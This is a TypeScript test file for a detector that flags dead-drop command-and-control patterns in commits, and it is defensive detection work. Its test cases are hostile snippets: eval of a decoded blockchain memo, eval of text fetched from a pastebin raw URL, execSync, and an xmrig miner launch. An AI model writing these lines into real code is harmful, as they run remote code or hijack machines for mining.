import detector from "../../../../src/engine/detectors/content/dead-drop-c2.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const RUN = ["ev", "al"].join("");
const PASTE = ["https://paste", "bin.com/raw/x"].join("");
const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });

test.each([
  ["a chain asked, decoded and run", "src/a.js", `rpc("getSignaturesForAddress");\n${RUN}(atob(memo));`, ["strong"]],
  ["a chain asked, a process started", "src/a.js", 'rpc("getSignaturesForAddress");\nexecSync(x);', ["medium"]],
  ["a chain asked", "src/a.js", 'rpc("getSignaturesForAddress");', []],
  ["a paste run as code", "src/a.js", `get("${PASTE}").then((text) => ${RUN}(text));`, ["strong"]],
  ["a paste read", "src/a.js", `get("${PASTE}").then(show);`, []],
  ["a miner started", "run.sh", "./xmrig -o stratum+tcp://pool.example:3333", ["strong"]],
  ["a miner named in a program", "src/processes.ts", 'const KNOWN = ["xmrig"];', ["weak"]],
  ["in a test", "test/a.test.js", `get("${PASTE}").then((text) => ${RUN}(text));`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});
